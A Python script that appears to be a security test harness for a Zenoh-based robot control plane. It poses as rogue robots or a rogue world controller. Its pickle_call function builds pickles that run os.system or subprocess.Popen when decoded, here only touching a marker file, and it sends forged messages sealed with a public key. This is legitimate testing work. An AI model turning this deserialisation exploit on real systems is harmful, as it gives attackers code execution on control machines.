"""An intruder on the control plane (issue 17), as a separate process: a plain Zenoh peer with the
robots' session settings and no team key.

  intruder.py robots ENDPOINT MARKER   connect to a world, declare robot_1..3's liveliness tokens and
                                       answer every call for them with a pickle that runs
                                       `touch MARKER` (the old decoder ran it)
  intruder.py world ENDPOINT MARKER NAME
                                       listen as a world (its liveliness token), send robot NAME
                                       the pickles and a typed Bye sealed with the public key, then
                                       leave

It speaks both the old control plane (a queryable per robot at .../robot/NAME/rpc) and the new one
(requests on .../robot/NAME/request, replies on .../robot/NAME/reply).

Prints "ready" once its tokens are declared (robots) or "sent N" after its calls (world). Runs until
killed (robots) or until it has sent everything (world).
"""

import json
import pickle
import sys
import time

import zenoh


def pickle_call(module: str, name: str, argument: str) -> bytes:
    def text(s: str) -> bytes:
        raw = s.encode()
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw

    return (pickle.PROTO + b"\x04" + text(module) + text(name) + pickle.STACK_GLOBAL + text(argument)
            + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP)


def session(listen=(), connect=()):
    config = zenoh.Config()
    config.insert_json5("mode", '"peer"')
    config.insert_json5("listen/endpoints", json.dumps(list(listen)))
    config.insert_json5("connect/endpoints", json.dumps(list(connect)))
    config.insert_json5("scouting/multicast/enabled", "false")
    return zenoh.open(config)


def robots(endpoint: str, marker: str) -> None:
    s = session(connect=[endpoint])
    payload = pickle_call("rescuemesh.cli", "os.system", f"touch {marker}")

    def answer(query):
        try:
            query.reply(query.key_expr, payload)
        finally:
            query.drop()

    keep = []
    for n in (1, 2, 3):
        robot = f"rescuemesh/default/robot/robot_{n}"
        keep.append(s.declare_queryable(f"{robot}/rpc", answer))
        reply = s.declare_publisher(f"{robot}/reply")
        keep.append(s.declare_subscriber(f"{robot}/request", lambda sample, reply=reply: reply.put(payload)))
        keep.append(reply)
        keep.append(s.liveliness().declare_token(f"{robot}/alive"))
    print("ready", flush=True)
    while True:
        time.sleep(1.0)


def world(endpoint: str, marker: str, name: str) -> None:
    s = session(listen=[endpoint])
    token = s.liveliness().declare_token("rescuemesh/default/world/alive")
    time.sleep(3.0)  # the robot connects and joins
    payloads = [pickle_call("rescuemesh.cli", "os.system", f"touch {marker}"),
                pickle_call("rescuemesh.runtime.processes.spawn", "subprocess.Popen", marker), b"", b"\x00" * 100]
    try:  # what a peer that read the source can send: typed requests sealed with the public key
        from rescuemesh.runtime.processes import control_messages as msg
        from rescuemesh.runtime.processes.control import PUBLIC_CONTROL_KEY, ControlKey
        from rescuemesh.runtime.processes.control_codec import encode

        public = ControlKey(PUBLIC_CONTROL_KEY)
        payloads += [public.seal(1, b"i" * 16, 1, name, encode(msg.Bye())),
                     public.seal(1, b"i" * 16, 2, name, payloads[0])]
    except ImportError:  # a rescuemesh before issue 17
        pass
    robot = f"rescuemesh/default/robot/{name}"
    replies = []
    heard = s.declare_subscriber(f"{robot}/reply", replies.append)
    request = s.declare_publisher(f"{robot}/request")
    answered = 0
    for payload in payloads:
        for reply in s.get(f"{robot}/rpc", payload=payload, timeout=2.0):
            answered += reply.ok is not None
        request.put(payload)
    time.sleep(2.0)
    answered += len(replies)
    heard.undeclare()
    print(f"sent {len(payloads)}, answered {answered}", flush=True)
    time.sleep(1.0)
    token.undeclare()
    time.sleep(1.0)
    s.close()


if __name__ == "__main__":
    if sys.argv[1] == "robots":
        robots(sys.argv[2], sys.argv[3])
    else:
        world(sys.argv[2], sys.argv[3], sys.argv[4])
